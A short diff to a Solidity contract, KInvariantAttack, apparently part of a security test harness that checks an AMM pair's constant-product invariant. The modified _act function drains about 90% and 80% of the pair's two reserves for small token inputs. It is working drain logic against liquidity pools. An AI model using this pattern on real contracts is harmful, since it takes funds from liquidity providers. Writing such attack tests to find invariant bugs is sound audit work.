@@ -50,8 +50,11 @@ contract KInvariantAttack is Attack {
     }
 
     function _act(uint256, uint256, uint256 count) internal override {
-        (uint112 r0,,) = pair.getReserves();
-        loanToken.transfer(address(pair), 20_000e18);
-        pair.swap(uint256(r0) * 95 / 100 / count, 0, address(this));
+        // One side for next to nothing, then the other.
+        (uint112 r0, uint112 r1,) = pair.getReserves();
+        loanToken.transfer(address(pair), 2_000e18);
+        pair.swap(uint256(r0) * 9 / 10 / count, 0, address(this));
+        loot1.transfer(address(pair), 2_000e18);
+        pair.swap(0, uint256(r1) * 8 / 10 / count, address(this));
     }
 }
